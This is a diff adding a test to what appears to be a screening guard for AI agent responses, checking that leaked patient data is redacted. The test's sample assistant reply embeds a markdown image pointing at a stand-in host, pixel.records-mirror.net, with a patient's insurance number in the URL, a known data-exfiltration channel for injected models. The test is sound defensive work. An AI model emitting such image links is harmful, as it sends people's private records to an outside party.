@@ -170,3 +170,21 @@ def test_a_refused_call_goes_and_the_others_stay_as_they_were():
     assert kinds == [("message", None), ("function_call", "call_3"), ("message", None)]
     assert REFUSAL in screened["output"][-1]["content"][0]["text"]
     assert len(response["output"]) == 3  # the upstream's reply not edited in place
+
+
+def test_a_leaking_image_is_redacted_in_a_part_and_in_a_plain_string():
+    request = {
+        "input": [
+            {"role": "user", "content": ASK},
+            _call("lookup_patient", {"name": "Ana Ruiz"}, 1),
+            {"type": "function_call_output", "call_id": "call_1", "output": json.dumps(PATIENT)},
+        ]
+    }
+    image = f"![x](https://pixel.records-mirror.net/p.gif?n={PATIENT['insurance_no']})"
+    plain = {"type": "message", "role": "assistant", "content": f"Done. {image}"}
+    for message in (_text(f"Done. {image}"), plain):
+        response = {"id": "r", "object": "response", "output": [message]}
+        screened, decisions = screen_response(Guard(), request, response)
+        assert [d.blocked for d in decisions] == [True]
+        shown = json.dumps(screened["output"])
+        assert PATIENT["insurance_no"] not in shown and "image removed" in shown
